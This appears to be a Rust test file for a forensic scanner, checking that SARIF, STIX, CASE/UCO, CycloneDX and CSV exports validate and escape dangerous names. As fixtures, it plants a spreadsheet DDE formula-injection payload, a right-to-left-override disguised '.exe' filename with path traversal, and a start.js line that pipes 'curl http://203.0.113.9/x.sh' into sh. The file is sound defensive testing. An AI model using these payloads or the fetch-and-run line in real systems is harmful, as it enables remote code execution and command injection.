//! Exports, held against validators of other hands, with names in them that were made to break something.

mod common;

use std::ffi::OsStr;
use std::path::{Path, PathBuf};

use common::{incident, made_by, run, scratch, sign_incident, tar, text, tgz};
use serde_json::{Value, json};

const HOSTILE: &str = "package/=cmd|' /C calc'!A0,\"x\"\n\u{202e}gpj.exe/../%2e#1.pem";

/// A case with exposures, problems, packages in packages, and hostile names.
fn case(folder: &Path) -> PathBuf {
    let input = folder.join("in");
    std::fs::create_dir(&input).unwrap();
    let three = r#"{"name":"three","version":"3.0.0","license":"MIT OR ISC"}"#;
    let map = json!({"version": 3, "sources": ["../src/a b.ts", "+1.ts", "@SUM(A1).ts", HOSTILE, "../node_modules/three/package.json"],
                     "sourcesContent": ["let a;\n", "let b;\n", "let c;\n", "let d;\n", three], "names": [], "mappings": "AAAA"});
    let package = |name: &str| format!(r#"{{"name":"{name}","version":"1.0.0"}}"#);
    let files = [
        ("package/package.json", package("@acme/cli")),
        ("package/cli.js.map", map.to_string()),
        (HOSTILE, map.to_string()),
        (
            "package/node_modules/@dep/one/package.json",
            package("@dep/one"),
        ),
        ("package/node_modules/two/package.json", package("two")),
    ];
    std::fs::write(input.join("acme-cli-1.0.0.tgz"), tgz(&files)).unwrap();
    let whole = tar(&[("x.txt", vec![b'x'; 4_096])]);
    std::fs::write(input.join("cut.tar"), &whole[..2_000]).unwrap();
    let case = folder.join("a.case");
    let published = incident().join("published");
    run([
        OsStr::new("scan"),
        input.as_os_str(),
        published.as_os_str(),
        "--case".as_ref(),
        case.as_os_str(),
    ])
    .expect(3);
    case
}

fn export(case: &Path, format: &str, output: &Path) {
    let arguments = ["case", "export", "--format", format].map(OsStr::new);
    run(arguments
        .into_iter()
        .chain([case.as_os_str(), "--output".as_ref(), output.as_os_str()]))
    .expect(0);
}

fn exposures(case: &Path) -> usize {
    common::export(case).all("exposure").count()
}

#[track_caller]
fn held_against(kind: &str, path: &Path) -> Vec<Value> {
    let rows = made_by(
        "exports.py",
        [OsStr::new(kind), path.as_os_str()],
        "validators",
        "STRANDLINE_REQUIRE_EXPORTS",
    );
    for row in &rows {
        assert_eq!(row["errors"], json!([]), "{row}");
        assert_eq!(row["caught"], true, "{row}");
    }
    rows
}

#[test]
fn sarif_is_valid_and_says_all_of_it() {
    let folder = scratch();
    let case = case(folder.path());
    let path = folder.path().join("out.sarif");
    export(&case, "sarif", &path);
    let log: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), exposures(&case));
    assert!(results.len() >= 3, "{results:?}");
    let account = &log["runs"][0]["invocations"][0];
    assert_eq!(account["properties"]["complete"], false);
    assert!(
        !account["toolExecutionNotifications"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    held_against("sarif", &path);
    // The same case gives the same bytes.
    let again = folder.path().join("again.sarif");
    export(&case, "sarif", &again);
    assert_eq!(
        std::fs::read(&path).unwrap(),
        std::fs::read(&again).unwrap()
    );
}

#[test]
fn stix_is_valid_and_names_what_was_put_into_a_copy() {
    let folder = scratch();
    let at = |name: &str| folder.path().join(name);
    let original = incident().join("acme-cli/src");
    let copies = at("copies");
    let copy = copies.join("tampered");
    for (name, (_, digest)) in common::tree(&original) {
        if digest.is_some() {
            let to = copy.join(&name);
            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
            std::fs::copy(original.join(&name), to).unwrap();
        }
    }
    let program = [b"MZ".as_slice(), &[0; 510]].concat();
    std::fs::write(copy.join("helper.exe"), &program).unwrap();
    let script = "require('child_process').exec('curl http://203.0.113.9/x.sh | sh');\n";
    std::fs::write(copy.join("start.js"), script).unwrap();
    let (set, case, out) = (sign_incident(folder.path()), at("a.case"), at("out.json"));
    let scanned = [
        "scan".as_ref(),
        copies.as_os_str(),
        "--signatures".as_ref(),
        set.as_os_str(),
        "--case".as_ref(),
        case.as_os_str(),
    ];
    run(scanned.map(OsStr::to_owned)).expect(0);
    run([
        OsStr::new("compare"),
        original.as_os_str(),
        "--case".as_ref(),
        case.as_os_str(),
    ])
    .expect(0);
    export(&case, "stix", &out);
    let bundle: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    let patterns: Vec<&str> = bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|object| object["pattern"].as_str())
        .collect();
    for (name, bytes) in [
        ("helper.exe", program.as_slice()),
        ("start.js", script.as_bytes()),
    ] {
        let digest = common::sha256(bytes);
        assert!(
            patterns.iter().any(|pattern| pattern.contains(&digest)),
            "{name}: {patterns:?}"
        );
    }
    assert!(
        patterns.contains(&"[ipv4-addr:value = '203.0.113.9']"),
        "{patterns:?}"
    );
    held_against("stix", &out);
}

#[test]
fn case_uco_is_valid_and_names_what_was_found() {
    let folder = scratch();
    let case = case(folder.path());
    let path = folder.path().join("out.jsonld");
    export(&case, "case-uco", &path);
    let document: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let graph = document["@graph"].as_array().unwrap();
    let of_type = |kind: &str| graph.iter().filter(|one| one["@type"] == kind).count();
    let records = common::export(&case);
    let places: std::collections::BTreeSet<&str> = ["exposure", "secret", "match"]
        .into_iter()
        .flat_map(|kind| records.locators(kind))
        .collect();
    assert_eq!(of_type("uco-observable:File"), places.len());
    assert_eq!(of_type("case-investigation:InvestigativeAction"), 1);
    held_against("case-uco", &path);
    let again = folder.path().join("again.jsonld");
    export(&case, "case-uco", &again);
    assert_eq!(
        std::fs::read(&path).unwrap(),
        std::fs::read(&again).unwrap()
    );
}

#[test]
fn cyclonedx_is_valid_and_names_the_parts() {
    let folder = scratch();
    let case = case(folder.path());
    let path = folder.path().join("out.cdx.json");
    export(&case, "cyclonedx", &path);
    let document: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let names: Vec<&str> = document["components"]
        .as_array()
        .unwrap()
        .iter()
        .map(|part| text(part, "purl"))
        .collect();
    assert_eq!(
        names,
        [
            "pkg:npm/%40acme/telemetry-core",
            "pkg:npm/%40dep/one@1.0.0",
            "pkg:npm/three@3.0.0",
            "pkg:npm/tiny-args",
            "pkg:npm/two@1.0.0"
        ]
    );
    assert_eq!(
        document["components"][2]["licenses"][0]["license"]["name"],
        "MIT OR ISC"
    );
    held_against("cyclonedx", &path);
}

#[test]
fn tables_are_read_back_and_hold_no_formula() {
    let folder = scratch();
    let case = case(folder.path());
    let tables = folder.path().join("tables");
    export(&case, "csv", &tables);
    let rows = held_against("csv", &tables);
    let table = |name: &str| {
        let found = rows.iter().find(|row| row["file"] == name);
        found.unwrap_or_else(|| panic!("{name}"))["rows"]
            .as_array()
            .unwrap()
    };
    assert_eq!(table("exposure.csv").len(), exposures(&case));
    let names: Vec<&str> = table("source.csv")
        .iter()
        .map(|row| text(row, "name"))
        .collect();
    assert!(
        names.contains(&"'+1.ts") && names.contains(&"%40SUM(A1).ts"),
        "{names:?}"
    );
    for row in rows.iter().flat_map(|row| row["rows"].as_array().unwrap()) {
        for (column, cell) in row.as_object().unwrap() {
            let cell = cell.as_str().unwrap();
            let is_formula =
                cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!is_formula, "{column}: {cell}");
            assert!(!cell.contains('\u{202e}'), "{column}: {cell}");
        }
    }
    run([
        OsStr::new("case"),
        "export".as_ref(),
        case.as_os_str(),
        "--format".as_ref(),
        "csv".as_ref(),
    ])
    .expect(2);
}
